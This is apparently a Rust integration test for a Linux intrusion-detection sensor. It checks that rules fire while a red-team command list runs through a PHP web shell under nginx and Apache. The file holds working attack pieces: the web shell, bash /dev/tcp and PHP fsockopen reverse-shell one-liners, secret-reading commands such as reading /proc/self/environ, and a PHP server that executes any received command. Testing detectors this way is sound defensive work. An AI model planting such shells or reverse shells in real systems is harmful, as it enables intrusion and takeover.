//! The web stacks a red team plays against, live, with the shipped Linux rules:
//! nginx + php-fpm and Apache + mod_php serving a one-file PHP web shell, each driven
//! through one command list (programs run without a shell, tools run by the shell,
//! nested shells and inline code, reverse shells, a setuid program), and a PHP
//! application that is a web server only because it listens on a port.
//!
//! Needs root (the kernel connector) and the Debian packages of each stack; outside CI
//! a test whose packages are missing says what to install and passes. CI installs
//! them (`.ci/run`) and runs every test.
#![cfg(target_os = "linux")]

mod common;
#[path = "common/live.rs"]
mod live;

use live::{
    alerts, free_port, get, live_host, open_to_all, spawn_quiet, wait_until, Sensor, Servers,
};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::mpsc;
use std::time::Duration;

/// `?cmd=` runs a command through the shell, as `system()` does. `?argv=` (a JSON list)
/// runs a program without one, as `proc_open` with a list, Node's `execFile` and
/// Python's `subprocess.run([...])` do; its output is read only after 0.3 s, so a
/// program that prints more than a pipe holds (its environment is padded to 200 kB)
/// is still there when the sensor reads `/proc`.
const WEB_SHELL: &str = r#"<?php
if (isset($_GET['cmd'])) { system($_GET['cmd']); }
if (isset($_GET['argv'])) {
    $pad = str_repeat('x', 100000);
    $env = ['PATH' => '/usr/bin:/bin', 'PAD1' => $pad, 'PAD2' => $pad];
    $out = [1 => ['pipe', 'w'], 2 => ['file', '/dev/null', 'w']];
    $p = proc_open(json_decode($_GET['argv']), $out, $pipes, null, $env);
    usleep(300000);
    echo stream_get_contents($pipes[1]);
    proc_close($p);
}
"#;

/// A document root with the web shell and a static page, readable by www-data.
fn docroot(dir: &Path) -> PathBuf {
    let root = dir.join("www");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("shell.php"), WEB_SHELL).unwrap();
    std::fs::write(root.join("index.html"), "<h1>static</h1>\n").unwrap();
    open_to_all(dir);
    root
}

fn wait_for_static_page(port: u16, what: &str) {
    wait_until(&format!("{what} serving on port {port}"), || {
        get(port, "/index.html").contains("static")
    });
}

/// Percent-encodes a query value.
fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// The web shell runs `command` through the shell.
fn shell(port: u16, command: &str) -> String {
    get(port, &format!("/shell.php?cmd={}", encode(command)))
}

/// The web shell runs `argv` without a shell.
fn exec(port: u16, argv: &[&str]) -> String {
    let list = serde_json::to_string(argv).unwrap();
    get(port, &format!("/shell.php?argv={}", encode(&list)))
}

/// An alert the command list must raise: the rule, and what its process looks like.
struct Expected<'a> {
    what: &'static str,
    rule: &'static str,
    matches: Box<dyn Fn(&Value) -> bool + 'a>,
}

fn expect<'a>(
    what: &'static str,
    rule: &'static str,
    matches: impl Fn(&Value) -> bool + 'a,
) -> Expected<'a> {
    Expected {
        what,
        rule,
        matches: Box::new(matches),
    }
}

fn text<'a>(alert: &'a Value, object: &str, key: &str) -> &'a str {
    alert[object][key].as_str().unwrap_or("")
}

/// Setting the environment in the shell makes `env` and `cat /proc/self/environ`
/// print more than a pipe holds; the reader waits 0.3 s, so they are still there when
/// the sensor reads `/proc`.
const PAD: &str = "export PAD=$(printf '%0100000d' 0);";

/// Plays the command list through the web shell on `port` and checks the alerts;
/// `server` is the web server's executable as the alerts name it.
fn play_the_command_list(port: u16, sensor: &Sensor, server: &str) {
    // 1. Programs without a shell.
    exec(port, &["env"]);
    exec(port, &["cat", "/proc/self/environ"]);
    exec(port, &["find", "/usr", "-perm", "-4000", "-o", "-print"]);
    exec(port, &["php", "-r", "usleep(300000);"]);
    exec(port, &["ls", "-laR", "/usr/share/doc"]);
    // A setuid program: su waits out PAM's delay after the wrong (empty) password.
    exec(port, &["su", "-c", "id", "root"]);
    // 2. Tools run by the shell.
    shell(port, &format!("{PAD} env | (sleep 0.3; wc -c)"));
    shell(
        port,
        &format!("{PAD} cat /proc/self/environ | (sleep 0.3; wc -c)"),
    );
    shell(port, "find /usr -perm -4000 -o -print | (sleep 0.3; wc -l)");
    shell(port, "id");
    // 4. Shells in shells, inline code through the shell.
    shell(port, "sh -c 'sleep 0.3'");
    shell(port, "bash -c 'sleep 0.3; true'");
    shell(port, "php -r 'usleep(300000);'");
    // 3. Reverse shells, to a listener of the test's that hangs up once alerted.
    reverse_shell(
        port,
        sensor,
        |p| format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{p}; cat <&3'"),
        "/dev/tcp/",
    );
    reverse_shell(
        port,
        sensor,
        |p| {
            format!("php -r '$s=fsockopen(\"127.0.0.1\",{p});$p=proc_open(\"/bin/sh -i\",[$s,$s,$s],$x);proc_close($p);'")
        },
        "fsockopen",
    );

    let is = |exe: &'static str| move |a: &Value| text(a, "process", "exe") == exe;
    let under = |exe: &'static str, parent: &str| {
        let parent = parent.to_string();
        move |a: &Value| text(a, "process", "exe") == exe && text(a, "parent", "exe") == parent
    };
    let php_with = |flag: &'static str| {
        move |a: &Value| {
            text(a, "process", "exe").starts_with("php")
                && text(a, "process", "command_line").contains(flag)
        }
    };
    let expected = [
        expect("env, no shell", "SW-LNX-007", under("env", server)),
        expect(
            "cat /proc/self/environ, no shell",
            "SW-LNX-007",
            under("cat", server),
        ),
        expect(
            "find -perm -4000, no shell (argv kept as a list)",
            "SW-LNX-006",
            move |a| {
                text(a, "parent", "exe") == server
                    && a["process"]["argv"]
                        == serde_json::json!(["find", "/usr", "-perm", "-4000", "-o", "-print"])
                    && text(a, "process", "command_line") == "find /usr -perm -4000 -o -print"
            },
        ),
        expect(
            "php -r, no shell",
            "SW-LNX-002",
            php_with("-r 'usleep(300000);'"),
        ),
        expect("ls, no shell", "SW-LNX-005", under("ls", server)),
        expect("su: www-data gains root", "SW-LNX-008", |a| {
            text(a, "process", "exe") == "su"
                && text(a, "process", "user") == "www-data"
                && text(a, "process", "effective_user") == "root"
        }),
        expect("env through the shell", "SW-LNX-007", under("env", "dash")),
        expect(
            "cat /proc/self/environ through the shell",
            "SW-LNX-007",
            under("cat", "dash"),
        ),
        expect(
            "find -perm -4000 through the shell",
            "SW-LNX-006",
            under("find", "dash"),
        ),
        expect("the shell itself", "SW-LNX-001", |a| {
            text(a, "process", "command_line") == "sh -c id"
        }),
        expect("sh -c in sh -c, quoted", "SW-LNX-003", |a| {
            text(a, "process", "command_line") == "sh -c 'sleep 0.3'"
        }),
        expect("bash -c in sh -c", "SW-LNX-003", is("bash")),
        expect("php -r through the shell", "SW-LNX-003", php_with("-r")),
        expect("bash /dev/tcp reverse shell", "SW-LNX-004", |a| {
            text(a, "process", "exe") == "bash"
                && text(a, "process", "command_line").contains("/dev/tcp/")
        }),
        expect(
            "php fsockopen reverse shell",
            "SW-LNX-004",
            php_with("fsockopen"),
        ),
    ];
    for e in &expected {
        sensor.wait_line(e.what, |l| l["rule"]["id"] == e.rule && (e.matches)(l));
    }
    let lines = sensor.lines();
    let alerts = alerts(&lines);
    // Whatever the web shell ran ran as www-data.
    for a in &alerts {
        assert_eq!(text(a, "process", "user"), "www-data", "{a:#}");
    }
    // The tools that exit at once (id) may be gone before /proc is read: reported.
    let id: Vec<&Value> = alerts
        .iter()
        .filter(|a| text(a, "process", "exe") == "id")
        .map(|a| &a["rule"]["id"])
        .collect();
    let mut by_rule = std::collections::BTreeMap::<String, u32>::new();
    for a in &alerts {
        *by_rule
            .entry(text(a, "rule", "id").to_string())
            .or_default() += 1;
    }
    eprintln!(
        "{server}: {} alerts {by_rule:?}; id's own (timing-dependent): {id:?}",
        alerts.len()
    );
}

/// Runs the reverse shell `command(port)` through the web shell against a listener,
/// waits for its SW-LNX-004 alert (command line containing `marker`), then hangs up so
/// the shell ends and the request returns.
fn reverse_shell(port: u16, sensor: &Sensor, command: impl Fn(u16) -> String, marker: &str) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let back = listener.local_addr().unwrap().port();
    let command = command(back);
    let (hang_up, hung_up) = mpsc::channel::<()>();
    let attacker = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().expect("the reverse shell connects");
        let _ = hung_up.recv_timeout(Duration::from_secs(30));
        // An interactive shell on the other end leaves when told; a `cat` at EOF.
        let _ = conn.write_all(b"exit\n");
        drop(conn);
    });
    let request = std::thread::spawn(move || shell(port, &command));
    sensor.wait_line(marker, |l| {
        l["rule"]["id"] == "SW-LNX-004" && text(l, "process", "command_line").contains(marker)
    });
    hang_up.send(()).unwrap();
    attacker.join().unwrap();
    request.join().unwrap();
}

/// Every alert lies in the web server's tree: nothing came from the servers starting.
fn assert_all_under(lines: &[Value], server: &str) {
    let outside: Vec<String> = alerts(lines)
        .iter()
        .filter(|a| !a["ancestors"].to_string().contains(server))
        .map(|a| {
            format!(
                "{} {} <- {}",
                a["rule"]["id"], a["process"]["command_line"], a["ancestors"]
            )
        })
        .collect();
    assert!(outside.is_empty(), "alerts outside {server}: {outside:#?}");
}

// --- nginx + php-fpm ----------------------------------------------------------------

fn start_nginx_php_fpm(dir: &Path, fpm: &Path) -> (Servers, u16) {
    let root = docroot(dir);
    let socket = dir.join("fpm.sock");
    let fpm_conf = dir.join("fpm.conf");
    std::fs::write(
        &fpm_conf,
        format!(
            "[global]\nerror_log = {d}/fpm.log\ndaemonize = no\n[web]\nuser = www-data\ngroup = www-data\nlisten = {s}\nlisten.owner = www-data\nlisten.group = www-data\nlisten.mode = 0666\npm = static\npm.max_children = 3\n",
            d = dir.display(),
            s = socket.display()
        ),
    )
    .unwrap();
    let php_fpm = spawn_quiet(fpm, &["-F", "-R", "-y", fpm_conf.to_str().unwrap()]);
    let port = free_port();
    let nginx_conf = dir.join("nginx.conf");
    std::fs::write(
        &nginx_conf,
        format!(
            "daemon off; worker_processes 1; pid {d}/nginx.pid; error_log {d}/nginx.err;
events {{}}
http {{
  access_log off; client_body_temp_path {d}; fastcgi_temp_path {d}; proxy_temp_path {d}; uwsgi_temp_path {d}; scgi_temp_path {d};
  fastcgi_read_timeout 60s;
  server {{
    listen 127.0.0.1:{port}; root {root};
    location ~ \\.php$ {{ include /etc/nginx/fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:{sock}; }}
  }}
}}
",
            d = dir.display(),
            root = root.display(),
            sock = socket.display()
        ),
    )
    .unwrap();
    let nginx = spawn_quiet(
        "/usr/sbin/nginx",
        &[
            "-c",
            nginx_conf.to_str().unwrap(),
            "-e",
            dir.join("nginx.err").to_str().unwrap(),
        ],
    );
    let servers = Servers(vec![nginx, php_fpm]);
    wait_for_static_page(port, "nginx + php-fpm");
    (servers, port)
}

#[test]
fn nginx_and_php_fpm_through_the_command_list() {
    let fpm = live::sbin_starting_with("php-fpm");
    let Some(_host) = live_host(
        "nginx_and_php_fpm_through_the_command_list",
        &[
            (live::installed("/usr/sbin/nginx"), "nginx-light"),
            (fpm.clone(), "php-fpm"),
        ],
    ) else {
        return;
    };
    let fpm = fpm.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let (servers, port) = start_nginx_php_fpm(dir.path(), &fpm);
    let output = dir.path().join("alerts.jsonl");
    let sensor = Sensor::start(&[&live::shipped_linux_rules()], &output, &[]);
    let server = fpm.file_name().unwrap().to_str().unwrap();
    play_the_command_list(port, &sensor, server);
    let lines = sensor.stop();
    assert_all_under(&lines, "php-fpm");
    drop(servers);
}

// --- Apache + mod_php ---------------------------------------------------------------

/// Debian's mod_php for the installed PHP (libphp8.2.so).
fn mod_php() -> Option<PathBuf> {
    std::fs::read_dir("/usr/lib/apache2/modules")
        .ok()?
        .filter_map(|e| e.ok().map(|e| e.path()))
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy();
            name.starts_with("libphp") && name.ends_with(".so")
        })
}

fn start_apache_mod_php(dir: &Path, php_module: &Path) -> (Servers, u16) {
    let root = docroot(dir);
    let port = free_port();
    let conf = dir.join("apache2.conf");
    let modules = "/usr/lib/apache2/modules";
    std::fs::write(
        &conf,
        format!(
            "ServerName localhost
ServerRoot {d}
DefaultRuntimeDir {d}
PidFile {d}/apache2.pid
Mutex file:{d} default
ErrorLog {d}/apache2.err
Listen 127.0.0.1:{port}
LoadModule mpm_prefork_module {modules}/mod_mpm_prefork.so
LoadModule authz_core_module {modules}/mod_authz_core.so
LoadModule php_module {php}
User www-data
Group www-data
StartServers 2
MinSpareServers 2
MaxSpareServers 4
Timeout 60
DocumentRoot {root}
<Directory {root}>
  Require all granted
</Directory>
<FilesMatch \"\\.php$\">
  SetHandler application/x-httpd-php
</FilesMatch>
",
            d = dir.display(),
            php = php_module.display(),
            root = root.display(),
        ),
    )
    .unwrap();
    let apache = spawn_quiet(
        "/usr/sbin/apache2",
        &["-f", conf.to_str().unwrap(), "-DFOREGROUND"],
    );
    let servers = Servers(vec![apache]);
    wait_for_static_page(port, "apache2 + mod_php");
    (servers, port)
}

#[test]
fn apache_and_mod_php_through_the_command_list() {
    let php_module = mod_php();
    let Some(_host) = live_host(
        "apache_and_mod_php_through_the_command_list",
        &[
            (live::installed("/usr/sbin/apache2"), "apache2"),
            (php_module.clone(), "libapache2-mod-php"),
        ],
    ) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (servers, port) = start_apache_mod_php(dir.path(), &php_module.unwrap());
    let output = dir.path().join("alerts.jsonl");
    let sensor = Sensor::start(&[&live::shipped_linux_rules()], &output, &[]);
    play_the_command_list(port, &sensor, "apache2");
    let lines = sensor.stop();
    assert_all_under(&lines, "apache2");
    drop(servers);
}

// --- a runtime is a web server when it serves -----------------------------------------

/// A PHP application server of its own: nothing on its command line says it serves,
/// only the socket it listens on. Each connection sends a command, which it runs.
const APP_SERVER: &str = r#"<?php
$server = stream_socket_server('tcp://127.0.0.1:' . $argv[1]);
while ($conn = stream_socket_accept($server, -1)) {
    fwrite($conn, (string) shell_exec(trim(fgets($conn))));
    fclose($conn);
}
"#;

#[test]
fn a_php_process_is_a_web_server_when_it_listens() {
    let Some(_host) = live_host(
        "a_php_process_is_a_web_server_when_it_listens",
        &[(live::installed("/usr/bin/php"), "php-cli")],
    ) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let app = dir.path().join("app.php");
    std::fs::write(&app, APP_SERVER).unwrap();
    let marker_rules = dir.path().join("marker.rules");
    std::fs::write(
        &marker_rules,
        r#"rule MARK { title: "end of test" severity: low attack: T1059 condition: command_line contains "listens-test-done" }"#,
    )
    .unwrap();
    let output = dir.path().join("alerts.jsonl");
    let sensor = Sensor::start(&[&live::shipped_linux_rules(), &marker_rules], &output, &[]);
    // The same PHP, run as a command-line tool (a cron job's `php -r`): not a server.
    let status = Command::new("/usr/bin/php")
        .args(["-r", "system('sh -c \"echo not-a-web-request\"');"])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let port = free_port();
    let servers = Servers(vec![spawn_quiet(
        "/usr/bin/php",
        &[app.to_str().unwrap(), &port.to_string()],
    )]);
    let ask = |command: &str| {
        let mut conn = std::net::TcpStream::connect(("127.0.0.1", port))?;
        writeln!(conn, "{command}")?;
        let mut answer = String::new();
        conn.read_to_string(&mut answer)?;
        Ok::<String, std::io::Error>(answer)
    };
    wait_until("the PHP application server listening", || {
        ask("echo up").is_ok_and(|a| a.contains("up"))
    });
    // shell_exec: sh -c 'sleep 0.3; echo served'.
    ask("sleep 0.3; echo served").unwrap();
    let shell = sensor.wait_line("the shell under the listening PHP", |l| {
        l["rule"]["id"] == "SW-LNX-001"
            && text(l, "process", "command_line") == "sh -c 'sleep 0.3; echo served'"
    });
    assert!(
        text(&shell, "parent", "exe").starts_with("php"),
        "{shell:#}"
    );
    assert_eq!(shell["parent"]["listens"], true, "{shell:#}");
    Command::new("/bin/sh")
        .args(["-c", "sleep 0.3", "listens-test-done"])
        .status()
        .unwrap();
    sensor.wait_line("the end marker", |l| l["rule"]["id"] == "MARK");
    let lines = sensor.stop();
    let cli = alerts(&lines)
        .into_iter()
        .filter(|a| a.to_string().contains("not-a-web-request"))
        .map(|a| a["rule"]["id"].clone())
        .collect::<Vec<_>>();
    assert!(
        cli.is_empty(),
        "php -r from the command line is no web server: {cli:?}"
    );
    drop(servers);
}
